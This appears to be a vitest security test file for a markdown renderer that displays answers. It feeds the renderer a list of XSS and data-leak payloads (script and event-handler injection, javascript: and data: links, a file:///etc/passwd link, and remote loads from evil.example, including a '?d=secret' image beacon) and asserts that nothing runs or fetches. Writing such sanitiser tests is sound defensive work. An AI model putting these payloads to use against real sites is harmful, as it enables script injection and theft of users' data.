/** Whatever an answer contains, nothing of it runs, fetches, or reaches out of its place. */
import { expect, test } from "vitest";
import { render } from "#elements/markdown/incremental";

const ATTACKS = [
  "<script>window.pwned=1</script>",
  "<img src=x onerror=\"window.pwned=1\">",
  "<img/src=x/onerror=window.pwned=1>",
  "<svg onload=window.pwned=1>",
  "<svg><script>window.pwned=1</script></svg>",
  "<svg><image href=\"https://evil.example/x\"/></svg>",
  "<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=1></style></mglyph></table></mtext></math>",
  "<noscript><p title=\"</noscript><img src=x onerror=window.pwned=1>\"></noscript>",
  "<details open ontoggle=window.pwned=1>x</details>",
  "<body onload=window.pwned=1>",
  "<input autofocus onfocus=window.pwned=1>",
  "<input type=\"image\" src=\"https://evil.example/i\">",
  "<button formaction=\"javascript:window.pwned=1\">x</button>",
  "<form action=\"https://evil.example\"><input name=a><button>go</button></form>",
  "[x](javascript:window.pwned=1)",
  "[x](JaVaScRiPt&colon;window.pwned=1)",
  "[x](  javascript:window.pwned=1)",
  "[x](data:text/html,<script>window.pwned=1</script>)",
  "[x](vbscript:window.pwned=1)",
  "[x](file:///etc/passwd)",
  "[a][1]\n\n[1]: javascript:window.pwned=1",
  "<javascript:window.pwned=1>",
  "<a href=\"java\tscript:window.pwned=1\">x</a>",
  "<a href=\"&#106;avascript:window.pwned=1\">x</a>",
  "<a href=\"https://good.example\" ping=\"https://evil.example/p\">x</a>",
  "<a id=location name=forms href=\"#\">x</a>",
  "![b](https://evil.example/b.gif?d=secret)",
  "![b](//evil.example/b.gif)",
  "![b](/api/system/info)",
  "![b](javascript:window.pwned=1)",
  "<img srcset=\"https://evil.example/a 1x\">",
  "<img src=\"data:image/svg+xml,<svg onload=window.pwned=1>\">",
  "<picture><source srcset=\"https://evil.example/s\"><img src=\"https://evil.example/t\"></picture>",
  "<video poster=\"https://evil.example/p\" src=\"https://evil.example/v\" autoplay></video>",
  "<audio src=\"https://evil.example/a\" autoplay></audio>",
  "<iframe src=\"https://evil.example\"></iframe>",
  "<iframe srcdoc=\"<script>parent.pwned=1</script>\"></iframe>",
  "<object data=\"https://evil.example/x\"></object>",
  "<embed src=\"https://evil.example/x\">",
  "<style>@import url(https://evil.example/x.css)</style>",
  "<p style=\"background:url(https://evil.example/x)\">x</p>",
  "<link rel=prefetch href=\"https://evil.example/x\">",
  "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
  "<base href=\"https://evil.example\">",
  "<table background=\"https://evil.example/t.png\"><tr><td>x</td></tr></table>",
  "<template><img src=x onerror=window.pwned=1></template>",
  "<slot name=x></slot><karen-composer></karen-composer>",
  "<p class=\"code-bar hljs-keyword\" slot=x part=y is=z>x</p>",
  "```html\"><img src=x onerror=window.pwned=1>\n<b>\n```",
  "`<img src=x onerror=window.pwned=1>`",
];
const TAGS = new Set(
  "P BR HR H1 H2 H3 H4 H5 H6 STRONG B EM I DEL S SUP SUB KBD MARK CODE PRE BLOCKQUOTE UL OL LI A IMG INPUT DETAILS SUMMARY TABLE THEAD TBODY TR TH TD".split(" "),
);
const ATTRIBUTES = new Set("href src alt title class align colspan rowspan open start type checked disabled rel target dir aria-label".split(" "));

test.each(ATTACKS)("%s does no harm", async (markdown) => {
  const before = performance.getEntriesByType("resource").length;
  const place = document.createElement("div");
  place.append(render(markdown));
  document.body.replaceChildren(place);
  await new Promise((resolve) => setTimeout(resolve, 15));

  expect(window).not.toHaveProperty("pwned");
  const fetched = performance.getEntriesByType("resource").slice(before);
  expect(fetched.filter(({ name }) => /evil|api\/system/.test(name))).toEqual([]);
  const elements = [...place.querySelectorAll("*")];
  expect(elements.filter(({ nodeName }) => !TAGS.has(nodeName))).toEqual([]);
  const attributes = elements.flatMap((element) => [...element.attributes]);
  expect(attributes.filter(({ name }) => !ATTRIBUTES.has(name)).map(({ name }) => name)).toEqual([]);
  const addresses = attributes.filter(({ name }) => name === "href" || name === "src");
  expect(addresses.filter(({ value }) => !/^(https?:|mailto:|#|blob:|data:image\/(png|jpeg|gif|webp);)/i.test(value))).toEqual([]);
  expect(attributes.filter(({ name, value }) => name === "class" && !/^(language-[\w+#.-]+|remote-image)$/.test(value))).toEqual([]);
});

test("a remote image is a link that names its host, and is never an image", () => {
  const place = document.createElement("div");
  place.append(render("![a cat](https://evil.example/cat.gif)"));
  const link = place.querySelector("a");
  expect(place.querySelector("img")).toBeNull();
  expect(link?.textContent).toBe("Open the image “a cat” at evil.example");
  expect(link?.rel).toContain("noreferrer");
});

test("an image that is in the text itself is shown", () => {
  const place = document.createElement("div");
  place.append(render("![dot](data:image/png;base64,iVBORw0KGgo=)"));
  expect(place.querySelector("img")?.getAttribute("src")).toMatch(/^data:image\/png/);
});

test("every link leaves the page without telling where from", () => {
  const place = document.createElement("div");
  place.append(render("[a](https://example.org) and https://example.net and <b@example.org>"));
  const links = [...place.querySelectorAll("a")];
  expect(links.map(({ target, rel }) => `${target} ${rel}`)).toEqual(Array(3).fill("_blank noreferrer noopener nofollow"));
});
